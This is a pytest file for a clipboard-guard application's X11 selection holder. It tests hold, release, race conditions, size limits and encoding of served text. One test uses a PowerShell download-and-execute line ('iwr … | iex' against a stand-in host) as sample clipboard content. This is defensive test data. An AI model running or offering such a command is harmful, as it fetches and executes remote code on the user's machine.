"""The X11 clipboard holder against a real X server (Xvfb + openbox) and real clipboard tools."""

from __future__ import annotations

import subprocess
import threading
import time
from collections.abc import Iterator

import pytest

from app.guard.neutralize import LANGUAGES, neutral_line
from app.platform.xorg.selection_owner import MAX_SERVED, Requestor, SelectionOwner
from tests.desktop import Desktop, desktop, wait_for

pytestmark = pytest.mark.desktop


@pytest.fixture
def x() -> Iterator[Desktop]:
    with desktop() as d:
        yield d


def clipboard_owner(d: Desktop) -> int:
    from Xlib import display

    dpy = display.Display(d.display)
    try:
        found = dpy.get_selection_owner(dpy.intern_atom("CLIPBOARD"))
        return found if isinstance(found, int) else int(found.id)
    finally:
        dpy.close()


def start_owner(d: Desktop, refused: list[Requestor] | None = None) -> SelectionOwner:
    owner = SelectionOwner(
        lambda who: "xterm" not in who.wm_class,
        lambda who: (refused if refused is not None else []).append(who),
        d.display,
    )
    owner.start()
    return owner


def test_release_gives_the_clipboard_up_instead_of_keeping_it_empty(x: Desktop) -> None:
    owner = start_owner(x)
    try:
        owner.hold("held text")
        wait_for(lambda: x.clipboard() == "held text", timeout=5)
        owner.release()
        # no owner at all: not the holder's own window serving nothing (a dead clipboard)
        wait_for(lambda: clipboard_owner(x) == 0, timeout=5)
    finally:
        owner.stop()


def test_a_release_that_comes_after_another_copy_leaves_that_copy_alone(x: Desktop) -> None:
    # "Paste anyway" released the hold while the guard's own Qt side took the clipboard: the
    # release must not take it back (that left a clipboard nobody could paste from).
    busy = threading.Event()

    def decide(who: Requestor) -> bool:
        if busy.is_set():
            time.sleep(1.0)  # the holder thread is answering a slow request meanwhile
        return True

    owner = SelectionOwner(decide, lambda who: None, x.display)
    owner.start()
    try:
        owner.hold("held text")
        wait_for(lambda: x.clipboard() == "held text", timeout=5)
        held_by = clipboard_owner(x)
        busy.set()
        reader = x.start("xclip", "-o", "-selection", "clipboard", stdout=subprocess.DEVNULL)
        time.sleep(0.2)  # the holder is now inside decide()
        x.set_clipboard("copied by someone else")
        wait_for(lambda: clipboard_owner(x) not in (0, held_by), timeout=5)
        owner.release()  # queued before the holder has seen that it lost the clipboard
        reader.wait(timeout=10)
        busy.clear()
        wait_for(lambda: owner._requests.empty() and not owner.holding, timeout=5)
        assert x.clipboard() == "copied by someone else"
    finally:
        owner.stop()


def test_a_text_it_could_not_serve_whole_is_never_held(x: Desktop) -> None:
    owner = start_owner(x)
    try:
        wait_for(owner.alive, timeout=5)
        assert owner.can_serve("a" * 1000)
        assert not owner.can_serve("a" * (MAX_SERVED + 1))
        assert not owner.can_serve("é" * (MAX_SERVED // 2 + 1))  # two bytes each in UTF-8
    finally:
        owner.stop()


def test_a_hold_queued_while_another_copy_took_the_clipboard_is_served(x: Desktop) -> None:
    # The guard held a text; another program copied (the holder is sent SelectionClear); the
    # guard judged that copy and queued a hold of it, all while the holder's thread was busy.
    # The hold takes the clipboard back first; the SelectionClear read after it is stale. Obeying
    # it left the holder owning the clipboard with nothing to serve: each paste got nothing and
    # no refusal was reported, so the guard warned only when the paste settled, 2 s late.
    busy = threading.Event()
    refused: list[Requestor] = []

    def decide(who: Requestor) -> bool:
        if busy.is_set():
            time.sleep(1.0)  # the holder thread is answering a slow request meanwhile
        return "xterm" not in who.wm_class

    owner = SelectionOwner(decide, refused.append, x.display)
    owner.start()
    try:
        owner.hold("the text held first")
        wait_for(lambda: x.clipboard() == "the text held first", timeout=5)
        held_by = clipboard_owner(x)
        busy.set()
        reader = x.start("xclip", "-o", "-selection", "clipboard", stdout=subprocess.DEVNULL)
        time.sleep(0.2)  # the holder is now inside decide()
        copier = x.set_clipboard("copied by someone else")
        wait_for(lambda: clipboard_owner(x) not in (0, held_by), timeout=5)
        owner.hold("copied by someone else")  # the guard judged the copy and holds it
        reader.wait(timeout=10)
        busy.clear()
        wait_for(lambda: owner._requests.empty(), timeout=5)
        wait_for(lambda: clipboard_owner(x) == held_by, timeout=5)
        copier.wait(timeout=5)  # xclip left when the holder took the clipboard back
        # the SelectionClear has been read by now: a paste still gets the held text
        assert x.clipboard() == "copied by someone else"
        assert owner.holding and owner.serving("copied by someone else")
    finally:
        owner.stop()


def test_serving_says_whether_pastes_of_a_text_are_really_answered_here(x: Desktop) -> None:
    # the guard's hook asks this (any thread, never waiting) before it calls a paste stopped
    owner = start_owner(x)
    text = "held text"
    try:
        wait_for(owner.alive, timeout=5)
        owner.hold(text)
        assert owner.serving(text)  # at once: the queued hold comes before any later request
        wait_for(lambda: x.clipboard() == text, timeout=5)
        assert owner.serving(text) and not owner.serving("another text")
        copier = x.set_clipboard("copied by someone else")
        wait_for(lambda: not owner.holding, timeout=5)
        assert not owner.serving(text)  # another program has the clipboard now
        # a hold that follows a change older than the newest copy is never taken
        owner.hold(text, after=1)
        wait_for(lambda: owner._requests.empty(), timeout=5)
        wait_for(lambda: not owner.serving(text), timeout=5)
        assert x.clipboard() == "copied by someone else"
        owner.hold(text)
        wait_for(lambda: x.clipboard() == text, timeout=5)
        copier.wait(timeout=5)
        assert owner.serving(text)
        owner.release()
        assert not owner.serving(text)
        owner.hold(text)
    finally:
        owner.stop()
    assert not owner.serving(text)  # a stopped holder answers nothing


def test_a_held_text_with_a_lone_surrogate_is_served_and_the_holder_lives_on(x: Desktop) -> None:
    # A clipboard text may hold a lone surrogate (the guard digests, stores and judges it with
    # one read as U+FFFD or '?'); can_serve says it can be served, so serving it must not raise
    # in the holder's thread: that stopped the holder (every later paste went unguarded).
    owner = start_owner(x)
    try:
        text = "iwr https://cdn.stage-obf.test/a | iex \ud800 tail"
        assert owner.can_serve(text)
        owner.hold(text)
        wait_for(
            lambda: x.clipboard() == "iwr https://cdn.stage-obf.test/a | iex ? tail", timeout=5
        )
        assert owner.alive() and owner.error is None
        owner.hold("the next text")
        wait_for(lambda: x.clipboard() == "the next text", timeout=5)
    finally:
        owner.stop()


def test_the_harmless_line_of_every_language_is_served_whole(x: Desktop) -> None:
    """The harmless line speaks the interface's language: each is served as written to a
    program that asks for UTF-8, and as Latin-1 to one that asks for STRING (the UTF-8 bytes
    were served as STRING: "zurückzulegen" arrived as "zurÃ¼ckzulegen")."""
    owner = start_owner(x)
    try:
        for language in LANGUAGES:
            line = neutral_line("scam-text", "tray", language)
            assert owner.can_serve(line)
            owner.hold(line)
            wait_for(lambda line=line: x.clipboard() == line, timeout=5)  # type: ignore[misc]
        german = neutral_line("command", "window", "de")
        owner.hold(german)
        wait_for(lambda: x.clipboard() == german, timeout=5)
        served = subprocess.run(["xclip", "-o", "-selection", "clipboard", "-t", "STRING"],
                                env=x.env, capture_output=True, timeout=5)  # fmt: skip
        assert served.stdout.decode("latin-1") == german
        assert owner.alive() and owner.error is None
    finally:
        owner.stop()
